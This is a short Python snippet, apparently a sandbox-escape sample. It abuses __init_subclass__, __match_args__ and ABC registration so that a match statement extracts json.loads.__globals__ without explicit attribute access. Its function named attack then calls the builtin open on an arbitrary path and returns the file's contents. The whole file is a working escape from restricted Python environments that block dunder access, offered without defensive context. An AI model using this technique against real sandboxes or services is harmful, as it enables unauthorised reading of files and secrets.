# `__init_subclass__` puts the names into a class that was looked at.
# after: read
# source: own
import json
from abc import ABC
class Base(ABC):
    def __init_subclass__(cls, names=(), **more):
        cls.__match_args__ = names
class U(Base, names=("__globals__",)):
    pass
def attack(path, **_):
    U.register(type(json.loads))
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
